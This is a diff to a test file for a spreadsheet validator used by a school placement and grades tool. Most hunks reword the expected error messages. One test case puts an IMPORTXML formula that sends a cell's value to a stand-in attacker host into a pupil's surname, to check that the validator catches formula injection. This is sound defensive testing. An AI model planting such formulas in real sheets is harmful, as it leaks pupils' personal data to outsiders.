@@ -65,7 +65,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a pupil without placement",
     (w) => paste(person(w, LEAD), "Pupils", ["First name", "Surname"], [["Ophelia", "Newcombe"]]),
-    /^Pupils \d+ Id: U021 has no placement/,
+    /^Pupils \d+ Id: .+ \(U021\) has no placement/,
   ],
   [
     "overlapping placements with one provider",
@@ -107,7 +107,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a formula in a name",
     (w) => at(w, "Pupils", ["Id", "U015"], "Surname", '=IMPORTXML("https://attacker.example/?d="&A1,"//a")'),
-    /^Pupils \d+ Surname: (It holds a formula|"#ERROR!" cannot be read)/,
+    /^Pupils \d+ Surname: (This cell contains a formula|"#ERROR!" cannot be read)/,
   ],
   [
     "a phone number pasted as a number",
@@ -121,12 +121,12 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "a week outside the calendar",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Week", "2026-10-26"),
-    /^Weekly grades \d+ Week: 2026-10-26 is not a school week in the Calendar/,
+    /^Weekly grades \d+ Week: 26 October 2026 is not a school week in the Calendar/,
   ],
   [
     "a week that is no Monday",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Week", "2026-11-18"),
-    /^Weekly grades \d+ Week: 2026-11-18 is not a Monday/,
+    /^Weekly grades \d+ Week: 18 November 2026 is not a Monday/,
   ],
   [
     "Settings with 25:99",
@@ -161,12 +161,12 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       const s = book(w).getSheetByName("Weekly grades");
       s.getRange(22, 1, 1, 4).setValues(s.getRange(2, 1, 1, 4).getValues());
     },
-    /^Weekly grades 2 Week: Rows 2 and 22 are both for 2026-11-16, U\d+; neither is used/,
+    /^Weekly grades 2 Week: Rows 2 and 22 are both for 16 November 2026, U\d+, so neither is used/,
   ],
   [
     "an id twice",
     (w) => type(w, pupils, (p) => p["id"] === "U015", { id: "U016" }),
-    /^Pupils \d+ Id: Rows 16 and 17 are both for U016; neither is used/,
+    /^Pupils \d+ Id: Rows 16 and 17 are both for U016, so neither is used/,
   ],
   [
     "a name beside another's id",
@@ -191,7 +191,7 @@ const CASES: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "more sessions attended than offered",
     (w) => at(w, "Weekly grades", ["Pupil id", "U004"], "Sessions attended", "99"),
-    /^Weekly grades \d+ Sessions attended: 99 attended of \d+ offered/,
+    /^Weekly grades \d+ Sessions attended: 99 attended, but only \d+ offered/,
   ],
 ];
 
@@ -243,7 +243,7 @@ const STOPS: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
   [
     "half-terms that overlap",
     (w) => at(w, "Calendar", ["Name", "Autumn 2"], "First day", "2026-10-19"),
-    /^Calendar \d+ First day: Autumn 2 starts on 2026-10-19, before Autumn 1 has ended/,
+    /^Calendar \d+ First day: Autumn 2 starts on 19 October 2026, before Autumn 1 has ended/,
   ],
   [
     "rows deleted from the Outbox",
@@ -256,7 +256,7 @@ const STOPS: [what: string, wrong: (w: MemoryWorkspace) => void, problem: RegExp
       const s = book(w).getSheetByName("Outbox");
       s.deleteRows(s.getLastRow() - 3, 4);
     },
-    /^Outbox - No: It has \d+ rows; \d+ were counted before/,
+    /^Outbox - No: The Outbox has \d+ rows, but \d+ were counted before/,
   ],
   [
     "letters of the Outbox changed",
